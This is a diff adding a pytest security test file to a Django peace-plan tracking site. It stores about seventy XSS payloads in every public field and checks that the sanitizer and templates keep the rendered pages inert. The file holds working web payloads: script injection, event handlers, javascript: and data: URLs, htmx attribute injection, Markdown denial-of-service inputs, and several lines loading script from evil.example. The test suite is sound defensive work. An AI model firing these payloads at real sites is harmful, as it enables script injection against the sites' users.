@@ -1,0 +1,436 @@
+"""
+Hostile text stays inert on every public page. Each payload of the corpus is stored in a
+published note's Markdown, a stance's quote, summary and speaker, a source's title and
+outlet and a clause's wording; the pages are parsed (html.parser), not just searched, and
+compared with the same page before the payload went in: no new script, embed or style
+element, no event handler or style attribute, no javascript:/vbscript:/data: URL, no htmx
+attribute the page did not already have. The sanitizer (peaceplans/markup.py) is also tested
+on its own, Markdown and raw HTML, and against input that would make Markdown slow.
+"""
+
+import re
+import time
+from collections import Counter
+from datetime import date
+from html.parser import HTMLParser
+from pathlib import Path
+
+import pytest
+from django.core.exceptions import ValidationError
+
+from peaceplans.markup import (
+    ALLOWED_ATTRIBUTES,
+    ALLOWED_TAGS,
+    ALLOWED_URL_SCHEMES,
+    render_markdown,
+    sanitize_html,
+    too_intricate,
+)
+from peaceplans.models import Annotation, Clause, Party, Revision, Source, Stance
+
+PLAN = "russia-ukraine-2025"
+ROOT = Path(__file__).resolve().parents[1]
+
+B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>
+
+# (id, payload): each at most 200 characters, the shortest field it is stored in.
+PAYLOADS = [
+    # script elements
+    ("script", "<script>alert(1)</script>"),
+    ("script-src", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
+    ("script-split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
+    ("script-unclosed", "<script>alert(1)//"),
+    ("script-in-code-fence", "```html\n<script>alert(1)</script>\n```"),
+    # event handlers
+    ("img-onerror", "<img src=x onerror=alert(1)>"),
+    ("attr-breakout", '"><img src=x onerror=alert(1)>'),
+    ("attr-breakout-single", "'><svg/onload=alert(1)>"),
+    ("body-onload", "<body onload=alert(1)>"),
+    ("div-onmouseover", '<div onmouseover="alert(1)">hover me</div>'),
+    ("details-ontoggle", "<details open ontoggle=alert(1)>x</details>"),
+    ("input-onfocus", "<input autofocus onfocus=alert(1)>"),
+    ("link-onclick", '<a href="https://example.org" onclick="alert(1)">x</a>'),
+    # javascript: links, in Markdown and in HTML
+    ("md-javascript", "[x](javascript:alert(1))"),
+    ("md-javascript-case", "[x](JaVaScRiPt:alert(1))"),
+    ("md-javascript-entity", "[x](&#106;avascript:alert(1))"),
+    ("md-javascript-colon-entity", "[x](javascript&#58;alert(1))"),
+    ("md-javascript-space", "[x]( javascript:alert(1) )"),
+    ("md-javascript-angle", "[x](<javascript:alert(1)>)"),
+    ("md-title-breakout", '[x](https://example.org "t\\" onmouseover=\\"alert(1)")'),
+    ("md-image-onerror", '![x](https://example.org/a.png" onerror="alert(1))'),
+    ("md-link-text-html", "[<img src=x onerror=alert(1)>](https://example.org)"),
+    ("html-javascript", '<a href="javascript:alert(1)">x</a>'),
+    ("html-javascript-tab", '<a href="jav&#x09;ascript:alert(1)">x</a>'),
+    ("html-javascript-entities", '<a href="&#x6A;&#x61;&#x76;&#x61;script&colon;alert(1)">x</a>'),
+    ("vbscript", '<a href="vbscript:msgbox(1)">x</a> [y](vbscript:msgbox(1))'),
+    # autolinks and reference links
+    ("autolink-javascript", "<javascript:alert(1)>"),
+    ("autolink-data", f"<data:text/html;base64,{B64_SCRIPT}>"),
+    ("ref-javascript", "[x][r]\n\n[r]: javascript:alert(1)"),
+    ("ref-data-image", f"![x][r]\n\n[r]: data:text/html;base64,{B64_SCRIPT}"),
+    # data: URLs
+    ("md-data", f"[x](data:text/html;base64,{B64_SCRIPT})"),
+    ("html-data", '<a href="data:text/html,<script>alert(1)</script>">x</a>'),
+    ("object-data", f'<object data="data:text/html;base64,{B64_SCRIPT}"></object>'),
+    # SVG and MathML
+    ("svg-onload", "<svg onload=alert(1)>"),
+    ("svg-script", "<svg><script>alert(1)</script></svg>"),
+    ("svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
+    ("math-mutation", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
+    # frames and embeds
+    ("iframe-javascript", '<iframe src="javascript:alert(1)"></iframe>'),
+    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
+    ("embed", '<embed src="https://evil.example/x.swf">'),
+    # styles
+    ("style-element", "<style>body{background:url(javascript:alert(1))}</style>"),
+    ("style-expression", '<div style="width: expression(alert(1))">x</div>'),
+    ("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
+    # navigation and forms
+    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
+    ("base-href", '<base href="https://evil.example/">'),
+    ("form-action", '<form action="javascript:alert(1)"><button>go</button></form>'),
+    ("button-formaction", "<button formaction=javascript:alert(1)>x</button>"),
+    # entity-encoded and mixed case
+    ("entities-script", "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;alert(2)&#60;/script&#62;"),
+    ("entities-handler", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>"),
+    ("mixed-case", "<ScRiPt>alert(1)</sCrIpT><IMG SRC=x OnErRoR=alert(1)>"),
+    # template injection
+    ("django-variable", "{{ request.user }} {{ 7|add:7 }}"),
+    ("django-tag", '{% debug %}{% include "base.html" %}{% load static %}'),
+    # htmx attribute injection
+    ("hx-get-load", '<div hx-get="/admin/" hx-trigger="load">x</div>'),
+    ("hx-on", '<a hx-on:click="alert(1)">x</a> <b hx-on::load="alert(1)">y</b>'),
+    ("data-hx-post", '<div data-hx-post="/admin/logout/" data-hx-trigger="load">x</div>'),
+    ("hx-vals-js", "<div hx-vals='js:{a: alert(1)}' hx-get='/'>x</div>"),
+    # unicode tricks
+    ("fullwidth", "＜script＞alert(1)＜/script＞"),
+    ("zero-width", "<scr\u200bipt>alert(1)</script> [x](\u200bjavascript:alert(1))"),
+    ("rtl-override", '\u202e<a href="javascript:alert(1)">gnp.exe</a>'),
+    # Browsers drop leading C0 controls and tabs inside a URL; NUL itself cannot be stored in PostgreSQL.
+    ("controls-in-scheme", "[x](\x01javascript:alert(1)) <a href='\x01javascript:alert(1)'>y</a> [z](java\tscript:1)"),
+    ("dotless-i", "<scr\u0131pt>alert(1)</scr\u0131pt>"),
+    # nested and broken markup
+    ("nested-lt", "<<script>alert(1)//<</script>"),
+    ("broken-attribute", '<a href="x" <img src=x onerror=alert(1)>>'),
+    ("comment-breakout", '<!--<img src="--><img src=x onerror=alert(1)//">'),
+    ("noscript-breakout", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
+    ("textarea-breakout", "</textarea><script>alert(1)</script>"),
+    ("title-breakout", "</title><script>alert(1)</script>"),
+    ("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
+]
+
+DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:")
+URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "srcset", "ping"}
+FORBIDDEN_TAGS = {
+    "script",
+    "iframe",
+    "frame",
+    "frameset",
+    "object",
+    "embed",
+    "applet",
+    "svg",
+    "math",
+    "style",
+    "link",
+    "meta",
+    "base",
+    "img",
+    "image",
+    "audio",
+    "video",
+    "source",
+    "form",
+    "input",
+    "button",
+    "textarea",
+    "template",
+    "noscript",
+    "animate",
+    "set",
+    "foreignobject",
+}
+
+COMPARE = f"/plans/{PLAN}/compare/?a=us-28-point-draft&b=e3-counter-proposal"
+PAGES = [
+    f"/plans/{PLAN}/points/6/",
+    COMPARE,
+    f"/plans/{PLAN}/revisions/e3-counter-proposal/",
+    f"/plans/{PLAN}/parties/russia/",
+    f"/plans/{PLAN}/",
+    "/sources/",
+]
+# The regions HTMX swaps in, as it asks for them.
+HTMX_PAGES = [
+    COMPARE + "&view=inline",
+    f"/plans/{PLAN}/points/6/?against=us-28-point-draft",
+]
+
+
+class Parsed(HTMLParser):
+    """Every start tag with its attributes (entities decoded, as a browser would see them)."""
+
+    def __init__(self, html: str):
+        super().__init__(convert_charrefs=True)
+        self.tags: list[tuple[str, list[tuple[str, str]]]] = []
+        self.comments = 0
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append((tag, [(name, value or "") for name, value in attrs]))
+
+    def handle_startendtag(self, tag, attrs):
+        self.handle_starttag(tag, attrs)
+
+    def handle_comment(self, data):
+        self.comments += 1
+
+    def count(self) -> Counter:
+        return Counter(tag for tag, _ in self.tags)
+
+    def attributes(self):
+        for tag, attrs in self.tags:
+            for name, value in attrs:
+                yield tag, name, value
+
+    def htmx(self) -> set[tuple[str, str, str]]:
+        return {(t, n, v) for t, n, v in self.attributes() if n.startswith(("hx-", "data-hx-"))}
+
+
+def url_scheme(value: str) -> str | None:
+    """
+    The scheme a browser reads in a URL, or None for a relative one. As the URL standard
+    parses: leading and trailing controls and spaces dropped, tabs and newlines dropped
+    anywhere ("java\tscript:" is "javascript:"); a space inside leaves no valid scheme.
+    """
+    value = re.sub(r"[\t\n\r]", "", re.sub(r"^[\x00-\x20]+|[\x00-\x20]+$", "", value))
+    match = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", value)
+    return match.group(1).lower() if match else None
+
+
+def dangerous_url(value: str) -> bool:
+    return url_scheme(value) in {scheme.rstrip(":") for scheme in DANGEROUS_SCHEMES}
+
+
+def assert_inert(html: str, baseline: Parsed, where: str):
+    page = Parsed(html)
+    after, before = page.count(), baseline.count()
+    for tag in FORBIDDEN_TAGS:
+        assert after[tag] <= before[tag], f"{where}: a <{tag}> came from the data"
+    for tag, name, value in page.attributes():
+        assert not re.fullmatch(r"on\w+", name), f"{where}: <{tag} {name}=...>"
+        assert name != "style", f"{where}: <{tag} style=...>"
+        assert name != "srcdoc", f"{where}: <{tag} srcdoc=...>"
+        if name in URL_ATTRIBUTES:
+            assert not dangerous_url(value), f"{where}: <{tag} {name}={value!r}>"
+    for tag, attrs in page.tags:
+        if tag == "script":
+            assert dict(attrs).get("src", "").startswith("/static/"), f"{where}: an inline or foreign script"
+    assert page.htmx() <= baseline.htmx(), f"{where}: htmx attributes from the data: {page.htmx() - baseline.htmx()}"
+    assert page.comments <= baseline.comments, f"{where}: a comment came from the data"
+
+
+def get(client, url, **headers) -> str:
+    response = client.get(url, headers=headers)
+    assert response.status_code == 200, (url, response.status_code)
+    return response.content.decode()
+
+
+_baselines: dict[tuple[str, bool], Parsed] = {}
+
+
+def baseline(client, url: str, htmx: bool = False) -> Parsed:
+    """The page as the demo data renders it; each test rolls back, so it is the same every time."""
+    if (url, htmx) not in _baselines:
+        _baselines[url, htmx] = Parsed(get(client, url, **({"HX-Request": "true"} if htmx else {})))
+    return _baselines[url, htmx]
+
+
+def store_everywhere(plan, payload: str) -> Annotation:
+    """The payload in every field a journalist's page shows from the database."""
+    point = plan.points.get(key="6")
+    e3 = Revision.objects.get(plan=plan, slug="e3-counter-proposal")
+    source = Source.objects.create(
+        url="https://example.org/hostile-source",
+        outlet=payload,
+        title=payload,
+        kind=Source.Kind.ORIGINAL_REPORT,
+        published_on=date(2026, 1, 1),
+    )
+    e3.sources.add(source)
+    Stance.objects.create(
+        plan=plan,
+        party=Party.objects.get(slug="russia"),
+        point=point,
+        revision=e3,
+        position=Stance.Position.OPPOSES,
+        stated_on=date(2026, 1, 1),  # the latest: the matrix and the party page show it
+        summary=payload,
+        quote=payload,
+        speaker=payload,
+        source=source,
+    )
+    clause = Clause.objects.get(revision=e3, point=point)
+    clause.text = f"The army is capped at 800,000. {payload}"
+    clause.save()
+    return Annotation.objects.create(
+        point=point, body=f"**bold** marker\n\n{payload}", status=Annotation.Status.PUBLISHED
+    )
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("payload", [p for _, p in PAYLOADS], ids=[i for i, _ in PAYLOADS])
+def test_payload_is_inert_on_every_public_page(client, plan, payload):
+    baselines = {url: baseline(client, url) for url in PAGES}
+    htmx_baselines = {url: baseline(client, url, htmx=True) for url in HTMX_PAGES}
+    note = store_everywhere(plan, payload)
+    for url in PAGES:
+        html = get(client, url)
+        assert_inert(html, baselines[url], url)
+        if "/points/6/" in url or "/compare/" in url:
+            notes = html.split(f'id="note-{note.pk}"')[1].split("</li>")[0]
+            assert "<strong>bold</strong> marker" in notes, f"{url}: Markdown formatting lost"
+    for url in HTMX_PAGES:
+        assert_inert(get(client, url, **{"HX-Request": "true"}), htmx_baselines[url], url + " (HTMX)")
+
+
+@pytest.mark.django_db
+def test_template_syntax_in_data_is_shown_as_typed(client, plan):
+    store_everywhere(plan, "{{ 7|add:7 }} {% now 'Y' %}")
+    for url in PAGES[:3]:
+        html = get(client, url)
+        assert "{{ 7|add:7 }} {% now &#x27;Y&#x27; %}" in html or "{{ 7|add:7 }} {% now 'Y' %}" in html, url
+
+
+def test_the_corpus_is_large_and_fits_every_field():
+    assert len(PAYLOADS) >= 30
+    assert len({i for i, _ in PAYLOADS}) == len(PAYLOADS)
+    assert all(len(p) <= 200 for _, p in PAYLOADS)
+
+
+# The sanitizer on its own
+
+
+def assert_allow_listed(html: str):
+    for tag, attrs in Parsed(html).tags:
+        assert tag in ALLOWED_TAGS, tag
+        for name, value in attrs:
+            assert name in ALLOWED_ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set()), (tag, name)
+            scheme = url_scheme(value) if name == "href" else None
+            assert scheme is None or scheme in ALLOWED_URL_SCHEMES, value
+            if name == "rel":
+                assert value == "noopener nofollow"
+
+
+@pytest.mark.parametrize("payload", [p for _, p in PAYLOADS], ids=[i for i, _ in PAYLOADS])
+def test_markdown_output_keeps_to_the_allow_list(payload):
+    assert_allow_listed(render_markdown(payload))
+
+
+@pytest.mark.parametrize("payload", [p for _, p in PAYLOADS], ids=[i for i, _ in PAYLOADS])
+def test_raw_html_is_cut_to_the_allow_list_by_nh3_alone(payload):
+    """Markdown escapes HTML, but the safety must not rest on that: nh3 alone keeps to the list."""
+    assert_allow_listed(sanitize_html(payload))
+
+
+@pytest.mark.parametrize(
+    "markdown,html",
+    [
+        ("**bold** and *italic*", "<p><strong>bold</strong> and <em>italic</em></p>"),
+        ("[site](https://example.org)", '<p><a href="https://example.org" rel="noopener nofollow">site</a></p>'),
+        ('[t](https://example.org "Title")', '<a href="https://example.org" title="Title" rel="noopener nofollow">'),
+        ("<https://example.org/a>", '<a href="https://example.org/a" rel="noopener nofollow">'),
+        ("[mail](mailto:desk@example.org)", '<a href="mailto:desk@example.org" rel="noopener nofollow">mail</a>'),
+        ("[point](/plans/x/points/6/)", '<a href="/plans/x/points/6/" rel="noopener nofollow">point</a>'),
+        ("- one\n- two", "<ul>\n<li>one</li>\n<li>two</li>\n</ul>"),
+        ("1. one\n2. two", "<ol>\n<li>one</li>\n<li>two</li>\n</ol>"),
+        ("> quoted", "<blockquote>\n<p>quoted</p>\n</blockquote>"),
+        ("`code` here", "<p><code>code</code> here</p>"),
+        ("    indented code", "<pre><code>indented code\n</code></pre>"),
+        ("# Heading", "<h3>Heading</h3>"),
+        ("## Subheading", "<h4>Subheading</h4>"),
+        ("a\n\n---\n\nb", "<hr>"),
+        ("line one  \nline two", "line one<br>"),
+        ("<b>not bold</b> & co", "<p>&lt;b&gt;not bold&lt;/b&gt; &amp; co</p>"),
+        ("[x](javascript:alert(1))", '<p><a rel="noopener nofollow">x</a></p>'),
+        ("![photo](https://example.org/a.png)", "<p></p>"),
+    ],
+)
+def test_markdown_renders_the_allowed_formatting(markdown, html):
+    assert html in render_markdown(markdown)
+
+
+def test_rendered_markdown_is_marked_safe_and_survives_autoescape():
+    from django.template import Context, Template
+
+    out = Template("{% load peaceplans %}{{ body|markdown }}").render(Context({"body": "**x** <i>"}))
+    assert out == "<p><strong>x</strong> &lt;i&gt;</p>"
+
+
+def test_input_past_the_cap_is_cut():
+    html = render_markdown("a" * 25_000)
+    assert html.count("a") == 20_000
+
+
+def test_empty_and_missing_text_render_as_nothing():
+    assert render_markdown("") == "" and render_markdown(None) == ""
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "[" * 10_000 + "]" * 10_000,
+        "[a](" * 5_000,
+        "![" * 10_000,
+        "[" * 20_000,
+        "1. " * 6_000,
+        "- " * 10_000,
+        "> " * 10_000,
+        "\n".join(" " * (4 * i) + "- x" for i in range(300)),
+        "*a" * 10_000,
+        "`a" * 10_000,
+        "<a " * 6_000,
+    ],
+    ids=["nested", "links", "images", "open", "ordered", "unordered", "quotes", "indent", "emphasis", "ticks", "lt"],
+)
+def test_hostile_markdown_renders_quickly_without_errors(text):
+    """Python-Markdown needed 54 s for the first and overflowed the stack on the 'ordered' one."""
+    start = time.perf_counter()
+    html = render_markdown(text)
+    assert time.perf_counter() - start < 3, "far slower than the ~0.3 s worst case measured"
+    assert_allow_listed(html)
+
+
+def test_ordinary_long_notes_are_still_markdown():
+    text = "\n\n".join(
+        f"Paragraph {n} cites [a report](https://example.org/{n}) and (AFP), **600,000**." for n in range(200)
+    )
+    assert not too_intricate(text)
+    assert render_markdown(text).count("<strong>600,000</strong>") == 200
+
+
+# Defence in depth around the sanitizer
+
+
+@pytest.mark.parametrize("url", ["javascript:alert(1)", f"data:text/html;base64,{B64_SCRIPT}", "vbscript:msgbox(1)"])
+def test_a_source_url_must_be_http(url):
+    """Source URLs are printed as links: validation (admin and import) refuses other schemes."""
+    source = Source(url=url, outlet="x", kind=Source.Kind.OFFICIAL)
+    with pytest.raises(ValidationError) as refused:
+        source.full_clean(validate_unique=False, validate_constraints=False)
+    assert "url" in refused.value.message_dict
+
+
+def test_mark_safe_is_called_only_in_the_sanitizer():
+    """STYLE.md: nothing is marked safe unless it went through the one sanitizer."""
+    offenders = []
+    for path in [*(ROOT / "peaceplans").rglob("*.py"), *(ROOT / "templates").rglob("*.html")]:
+        if "migrations" in path.parts or path == ROOT / "peaceplans" / "markup.py":
+            continue
+        text = path.read_text()
+        if re.search(r"mark_safe|SafeString\(|\|\s*safe\b|\|\s*safeseq\b|autoescape\s+off", text):
+            offenders.append(str(path.relative_to(ROOT)))
+    assert offenders == []
+    assert (ROOT / "peaceplans" / "markup.py").read_text().count("mark_safe(") == 1
